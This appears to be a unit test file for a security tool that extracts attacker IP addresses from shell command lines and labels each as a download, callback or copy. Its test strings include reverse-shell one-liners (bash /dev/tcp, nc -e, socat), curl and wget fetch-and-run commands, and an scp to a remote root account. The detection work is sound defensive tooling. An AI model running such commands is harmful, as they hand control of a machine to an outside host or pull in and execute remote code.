/** Attacker infrastructure named inside a command line (indicators.ts), on command lines written for it. */
import { describe, expect, it } from 'vitest';
import { indicatorsInCommand } from '../../src/correlate/indicators.js';

const ips = (c: string) => indicatorsInCommand(c).map((i) => `${i.ip}${i.port ? ':' + i.port : ''} ${i.use}`);

describe('indicators inside commands', () => {
  it('finds download, call-back and copy addresses', () => {
    expect(ips('/bin/bash -c curl -fsSL http://192.0.2.77/ks.sh | bash')).toEqual(['192.0.2.77 download']);
    expect(ips('/bin/bash -c bash -i >& /dev/tcp/203.0.113.150/8443 0>&1')).toEqual(['203.0.113.150:8443 callback']);
    expect(ips('nc -e /bin/sh 198.51.100.9 4444')).toEqual(['198.51.100.9:4444 callback']);
    expect(ips('socat TCP:198.51.100.3:443 EXEC:/bin/sh')).toEqual(['198.51.100.3:443 callback']);
    expect(ips('scp -P 2222 /tmp/a.tgz root@203.0.113.5:/x')).toEqual(['203.0.113.5 copy']);
    expect(ips('wget -q -O /tmp/x 213.255.246.81/bins.sh')).toEqual(['213.255.246.81 download']);
    expect(ips('curl -s http://[2001:DB8:0::5]:8080/x')).toEqual(['2001:db8::5:8080 download']);
  });
  it('names each address once, canonical', () => {
    expect(ips('curl http://192.0.2.7/a -o a; curl http://192.0.2.7/b | sh')).toEqual(['192.0.2.7 download']);
  });
  it('ignores addresses a command only mentions, versions and host names', () => {
    expect(ips('ping -c 1 8.8.8.8')).toEqual([]);
    expect(ips('apt-get install openssl=3.0.13.1')).toEqual([]);
    expect(ips('curl https://example.com/install.sh | sh')).toEqual([]);
    expect(ips('echo 999.1.1.1 > /tmp/x')).toEqual([]);
    expect(ips('curl http://999.1.1.1/x')).toEqual([]);
  });
});
